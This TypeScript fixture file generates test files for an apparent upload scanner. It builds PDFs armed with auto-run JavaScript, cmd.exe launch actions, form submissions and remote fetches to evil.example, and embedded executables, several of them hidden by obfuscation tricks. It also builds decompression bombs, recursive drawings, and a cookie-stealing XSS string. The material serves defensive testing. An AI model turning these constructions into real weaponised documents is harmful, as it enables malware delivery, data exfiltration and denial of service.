import { crc32, deflateSync } from "node:zlib";
import PdfDocument from "pdfkit";
import sharp from "sharp";

/** Files that nobody sends by accident, and some that people do. */

/** A photo with grain, as cameras make them: `pixels` that do not compress to nothing. */
export const aPhoto = (width = 1_200, height = 900, format: "jpeg" | "png" = "jpeg", options: object = {}) =>
  sharp({
    create: { width, height, channels: 3, background: "#ddd", noise: { type: "gaussian", mean: 150, sigma: 20 } },
  })
    [format](options)
    .toBuffer();

/** As large as it says, and quickly made. */
export const aBlank = (width: number, height: number, channels: 3 | 4 = 3) =>
  sharp({ create: { width, height, channels, background: { r: 200, g: 190, b: 180, alpha: 0.5 } } });

/** With the place where it was taken, the camera and an upright mark. */
export const aPhotoWithPlace = async (orientation = 6) =>
  sharp(await aPhoto(1_200, 800))
    .withExif({
      IFD0: { Make: "Phone", Model: "Of Sunita", Orientation: String(orientation) },
      IFD3: { GPSLatitudeRef: "N", GPSLatitude: "19/1 4/1 33/1", GPSLongitudeRef: "E", GPSLongitude: "72/1 52/1 39/1" },
    })
    .jpeg()
    .withMetadata({ orientation })
    .toBuffer();

/** Each page says something, and has the picture where there is one. */
export function aPdf(pages = 1, options: PDFKit.PDFDocumentOptions = {}, picture?: Buffer): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const document = new PdfDocument({ autoFirstPage: false, size: "A4", ...options });
    const chunks: Buffer[] = [];
    document.on("data", (chunk: Buffer) => chunks.push(chunk));
    document.on("end", () => resolve(Buffer.concat(chunks)));
    document.on("error", reject);
    // Opened once: otherwise pdfkit writes it for every page.
    const opened =
      picture && (document as unknown as { openImage(bytes: Buffer): PDFKit.Mixins.ImageSrc }).openImage(picture);
    for (let page = 1; page <= pages; page++) {
      document.addPage().fontSize(40).text(`Rent agreement, page ${page}`);
      if (opened) document.image(opened, { width: 300 });
    }
    document.end();
  });
}

/** A PDF whose catalog has further entries beside its pages. */
export function pdfWith(catalog: string, more = "") {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>",
  ];
  const body = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join("");
  return Buffer.from(`%PDF-1.5\n${body}${more}trailer\n<< /Root 1 0 R /Size 9 >>\nstartxref\n0\n%%EOF\n`, "latin1");
}

/** A PDF of these objects, the first of them its catalog; rebuilt by the program that opens it, because it has no table of them. */
function pdfOf(objects: (string | Buffer)[], version = "1.7") {
  const numbered = objects.flatMap((object, at) => [`${at + 1} 0 obj\n`, object, "\nendobj\n"]);
  const end = `trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\nstartxref\n0\n%%EOF\n`;
  const parts = [`%PDF-${version}\n`, ...numbered, end];
  return Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : part)));
}

const streamOf = (entries: string, content: string | Buffer) => {
  const bytes = typeof content === "string" ? Buffer.from(content, "latin1") : content;
  return Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`, "latin1"),
    bytes,
    Buffer.from("\nendstream", "latin1"),
  ]);
};

/** One page that says "Rent agreement", whose catalog, page and further objects (from the seventh on) have what is given. */
function pageWith({
  catalog = "",
  page = "",
  font = "",
  resources = "",
  content = "",
  more = [] as (string | Buffer)[],
}) {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources 5 0 R ${page} >>`,
    streamOf("", `BT /F 24 Tf 20 100 Td (Rent agreement) Tj ET${content}`),
    `<< /Font << /F 6 0 R >> ${resources} >>`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica ${font} >>`,
    ...more,
  ]);
}

const alert = "/S /JavaScript /JS (app.alert\\(1\\))";
const hexed = "/#53 /#4a#61vaScript /#4aS (app.alert\\(1\\))";
const launch = "/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >>";
const rect = "/Rect [10 10 90 40]";
const drawnBox = streamOf("/Type /XObject /Subtype /Form /BBox [0 0 80 30]", "0 0 80 30 re f");
/** Objects that stand packed in a stream, under their numbers. */
function packed(objects: Record<number, string>) {
  const texts = Object.values(objects);
  const starts = texts.map((_, at) => texts.slice(0, at).reduce((sum, text) => sum + text.length + 1, 0));
  const heads = `${Object.keys(objects)
    .map((number, at) => `${number} ${starts[at]}`)
    .join(" ")} `;
  const bytes = deflateSync(Buffer.from(heads + texts.join(" "), "latin1"));
  return streamOf(`/Type /ObjStm /N ${texts.length} /First ${heads.length} /Filter /FlateDecode`, bytes);
}

/** All that names an action is packed, with a table that leads there, as programs write it today. */
function pdfWithPackedObjects(objects: Record<number, string>, packing = packed) {
  const outside = Array.from({ length: 8 }, (_, at) => at + 1).filter((number) => objects[number] === undefined);
  const [stream = 0, table = 0] = outside.slice(-2);
  const rows: Record<number, number[]> = {};
  for (const [at, number] of Object.keys(objects).entries()) rows[Number(number)] = [2, stream, at];
  const parts = [Buffer.from("%PDF-1.7\n", "latin1")];
  const add = (number: number, object: string | Buffer) => {
    rows[number] = [1, Buffer.concat(parts).length, 0];
    parts.push(Buffer.from(`${number} 0 obj\n`), Buffer.from(object as string, "latin1"), Buffer.from("\nendobj\n"));
  };
  for (const number of outside.slice(0, -2)) add(number, streamOf("", "BT /F 24 Tf 20 100 Td (Rent agreement) Tj ET"));
  add(stream, packing(objects));
  const start = Buffer.concat(parts).length;
  rows[table] = [1, start, 0];
  const content = Buffer.alloc(9 * 7);
  for (const [number, [type = 0, where = 0, at = 0]] of Object.entries(rows)) {
    content.writeUInt8(type, Number(number) * 7);
    content.writeUInt32BE(where, Number(number) * 7 + 1);
    content.writeUInt16BE(at, Number(number) * 7 + 5);
  }
  add(table, streamOf("/Type /XRef /Size 9 /Root 1 0 R /W [1 4 2]", content));
  return Buffer.concat([...parts, Buffer.from(`startxref\n${start}\n%%EOF\n`)]);
}

/** Catalog, pages and page with a script each; 4 is what the page says, 7 the stream and 8 the table. */
const packedObjects = {
  1: "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
  2: "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
  3: "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /AA << /O 6 0 R >> >>",
  5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  6: `<< ${alert} >>`,
};

const attachment = [
  "<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 8 0 R >> >>",
  streamOf("/Type /EmbeddedFile", "MZ program"),
];

/** Each of them opens, and carries something that runs, starts, leads elsewhere or is a file of its own. */
export const armedPdfs = (): Record<string, Buffer> => ({
  "a script at opening": pageWith({ catalog: `/OpenAction << ${alert} >>` }),
  "a script at closing": pageWith({ catalog: `/AA << /WC << ${alert} >> >>` }),
  "a script among the names": pageWith({ catalog: `/Names << /JavaScript << /Names [(a) << ${alert} >>] >> >>` }),
  "a script with the page": pageWith({ page: `/AA << /O << ${alert} >> >>` }),
  "a program at opening": pageWith({ catalog: `/OpenAction << ${launch} >>` }),
  "a program behind a link": pageWith({
    page: `/Annots [<< /Type /Annot /Subtype /Link ${rect} /A << ${launch} >> >>]`,
  }),
  "an address behind a link": pageWith({
    page: `/Annots [<< /Type /Annot /Subtype /Link ${rect} /A << /S /URI /URI (https://evil.example/) >> >>]`,
  }),
  "a field that runs a script": pageWith({
    catalog: "/AcroForm << /Fields [7 0 R] >>",
    page: "/Annots [7 0 R]",
    more: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Sunita) ${rect} /AP << /N 8 0 R >> /AA << /K << ${alert} >> >> >>`,
      drawnBox,
    ],
  }),
  "a form that sends itself": pageWith({
    page: `/Annots [<< /Type /Annot /Subtype /Link ${rect} /A << /S /SubmitForm /F (https://evil.example/) >> >>]`,
  }),
  "a file among the names": pageWith({
    catalog: "/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>",
    more: attachment,
  }),
  "a file on the page": pageWith({
    page: `/AF [7 0 R] /Annots [<< /Type /Annot /Subtype /FileAttachment ${rect} /FS 7 0 R >>]`,
    more: attachment,
  }),
  "a film": pageWith({ page: `/Annots [<< /Type /Annot /Subtype /RichMedia ${rect} /RichMediaContent 7 0 R >>]` }),
  "a form of scripts beside its pages": pageWith({
    catalog: "/AcroForm << /Fields [7 0 R] /XFA 8 0 R >>",
    more: [`<< /FT /Tx /T (name) /Subtype /Widget ${rect} >>`, streamOf("", "<xdp:xdp><script/></xdp:xdp>")],
  }),
  "a script hidden by a comment": pageWith({
    catalog: `%stream\n/OpenAction << ${alert} >> %endstream\n`,
    page: `%stream\n/AA << /O << ${launch} >> >>\n`,
  }),
  "a script hidden by a string": pageWith({
    catalog: `/Lang (\nstream\n) /OpenAction << ${alert} >> /Note (\nendstream\n)`,
  }),
  "a script written by numbers": pageWith({
    catalog: `/Open#41ction << ${hexed} >>`,
    page: `/#41#41 << /O << ${hexed} >> >>`,
  }),
  "a script among packed objects": pdfWithPackedObjects(packedObjects),
  "a script among objects packed twice": pdfWithPackedObjects(packedObjects, (objects) => {
    const once = packed(objects).toString("latin1");
    const first = /\/First (\d+)/.exec(once)?.[1] ?? "";
    const bytes = Buffer.from(once.slice(once.indexOf("stream\n") + 7, once.lastIndexOf("\nendstream")), "latin1");
    const entries = `/Type /ObjStm /N 5 /First ${first} /Filter [/ASCIIHexDecode /FlateDecode]`;
    return streamOf(entries, `${bytes.toString("hex")}>`);
  }),
  "something behind its end": Buffer.concat([pageWith({}), Buffer.from(script), archiveEnd]),
});

/** A link that starts a program, where no viewer looks for one: among what the drawing uses. */
export const pdfWithStrayLink = () =>
  pageWith({ font: `/Stray << /Type /Annot /Subtype /Link ${rect} /A << ${launch} >> >>` });

const behindPicture = (entries: string, more: (string | Buffer)[] = []) =>
  pageWith({
    font: "/Stray 7 0 R",
    more: [
      streamOf(
        `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 ${entries}`,
        "x",
      ),
      ...more,
    ],
    resources: "/XObject << /I 7 0 R >>",
    content: " q 30 0 0 30 10 10 cm /I Do Q",
  });
const behindForm = (entries: string) =>
  pageWith({
    more: [streamOf(`/Type /XObject /Subtype /Form /BBox [0 0 300 200] ${entries}`, "0 0 9 9 re f")],
    resources: "/XObject << /X 7 0 R >>",
    content: " /X Do",
  });

/** What a page draws refers to something that belongs to no drawing. */
export const pdfsWithMoreBehind = (): Record<string, Buffer> => ({
  "a picture that is fetched from elsewhere": behindPicture("/F (\\\\\\\\evil.example\\\\a.jpg) /FFilter /DCTDecode"),
  "another picture for printing": behindPicture("/Alternates [<< /Image 8 0 R /DefaultForPrinting true >>]", [
    streamOf("/Type /XObject /Subtype /Image /F (https://evil.example/b)", "evil"),
  ]),
  "a file behind a picture": behindPicture("/AF [8 0 R]", [
    "<< /Type /Filespec /F (evil.exe) /EF << /F 9 0 R >> >>",
    streamOf("/Type /EmbeddedFile", "MZ evil"),
  ]),
  "a page of another file": behindForm(
    "/Ref << /F << /Type /Filespec /F (\\\\\\\\evil.example\\\\c.pdf) >> /Page 0 >>",
  ),
  "a script behind a drawing": behindForm(
    `/PieceInfo << /Evil << /Private (evil) >> >> /AA << /O << ${alert} >> >> /A << ${launch} >>`,
  ),
  "a font that is fetched from elsewhere": pageWith({
    font: "/FontDescriptor 7 0 R",
    more: [
      "<< /Type /FontDescriptor /FontName /Helvetica /Flags 32 /FontFile2 8 0 R >>",
      streamOf("/F (\\\\\\\\evil.example\\\\d.ttf)", ""),
    ],
  }),
});

/** Pages that show the same however they are written. */
export const variedPages = (): Record<string, Buffer> => ({
  plain: pageWith({}),
  turned: pageWith({ page: "/Rotate 90" }),
  "turned back": pageWith({ page: "/Rotate -90 /CropBox [10 60 290 190]" }),
  cut: pageWith({ page: "/CropBox [10 80 220 150]" }),
  empty: pdfWith(""),
  "half transparent": pageWith({
    page: "/Group << /S /Transparency /CS /DeviceRGB /I true >> /Annots [<< /Type /Annot /Subtype /Stamp /Rect [10 90 290 140] /CA 0.5 /AP << /N 7 0 R >> >>]",
    more: [
      streamOf(
        "/Type /XObject /Subtype /Form /BBox [0 0 80 30] /Group << /S /Transparency >> /Resources << /ExtGState << /G << /ca 0.5 /BM /Multiply >> >> >>",
        "/G gs 1 0 0 rg 0 0 80 30 re f",
      ),
    ],
  }),
});

/** A form that Adobe's programs alone can show. */
export const pdfXfaForm = () =>
  pageWith({
    catalog: "/NeedsRendering true /AcroForm << /Fields [] /XFA 7 0 R >>",
    more: [streamOf("", "<xdp:xdp></xdp:xdp>")],
  });

/** A few hundred bytes that lay one transparent page upon the other, again and again. */
export function pdfOfBlends(times = 80) {
  const box = "/BBox [0 0 2000 2000] /Group << /S /Transparency /I true >>";
  const blend = "/ExtGState << /B << /BM /Luminosity /ca 0.5 >> >>";
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2000 2000] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> ${blend} >> >>`,
    streamOf("/Filter /FlateDecode", deflateSync(Buffer.from(`/B gs ${"/X Do ".repeat(times)}`, "latin1"))),
    streamOf(`/Type /XObject /Subtype /Form ${box}`, "1 0 0 rg 0 0 2000 2000 re f"),
  ]);
}

/** Thousands of streams of objects that cannot be unpacked. */
export const pdfOfFailingStreams = (streams = 9_000) =>
  pageWith({
    more: Array.from({ length: streams }, () => streamOf("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", "no")),
  });

/** One page whose form draws a form ten times, which draws a form ten times, and so on. */
export function pdfDrawnForEver() {
  const object = (number: number, entries: string, stream: string) =>
    `${number} 0 obj\n<< ${entries} /Length ${stream.length} >>\nstream\n${stream}\nendstream\nendobj\n`;
  const form = "/Type /XObject /Subtype /Form /BBox [0 0 300 300]";
  const more = Array.from({ length: 12 }, (_, at) =>
    object(10 + at, `${form} /Resources << /XObject << /F ${11 + at} 0 R >> >>`, "/F Do ".repeat(10)),
  );
  const last = object(22, form, "0 0 m 300 300 l S");
  const page =
    "5 0 obj\n<< /Type /Page /Parent 6 0 R /MediaBox [0 0 300 300] /Contents 7 0 R /Resources << /XObject << /F 10 0 R >> >> >>\nendobj\n";
  const pages = "6 0 obj\n<< /Type /Pages /Count 1 /Kids [5 0 R] >>\nendobj\n";
  const catalog = "4 0 obj\n<< /Type /Catalog /Pages 6 0 R >>\nendobj\n";
  const body = [catalog, page, pages, object(7, "", "/F Do"), ...more, last].join("");
  return Buffer.from(`%PDF-1.5\n${body}trailer\n<< /Root 4 0 R /Size 30 >>\nstartxref\n0\n%%EOF\n`, "latin1");
}

/** Small, and unpacked without end: each of its streams of objects becomes so many megabytes of nothing. */
export function pdfBomb(streams: number, megabytes: number) {
  const packed = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 0x20)).toString("latin1");
  const stream = `8 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`;
  return pdfWith("", stream.repeat(streams));
}

const chunk = (type: string, data: Buffer) => {
  const content = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(content));
  return Buffer.concat([length, content, sum]);
};

/** A few hundred bytes that claim to be as large as they say. */
export function pngOf(width: number, height: number, isInterlaced = false) {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, isInterlaced ? 1 : 0], 8);
  const data = deflateSync(Buffer.alloc(100_000));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk("IHDR", head), chunk("IDAT", data), chunk("IEND", Buffer.alloc(0))]);
}

export const script = "<script>alert(document.cookie)</script>";
/** An archive's last record, by which programs find it at the end of any file. */
export const archiveEnd = Buffer.concat([Buffer.from("PK\x05\x06", "latin1"), Buffer.alloc(18)]);
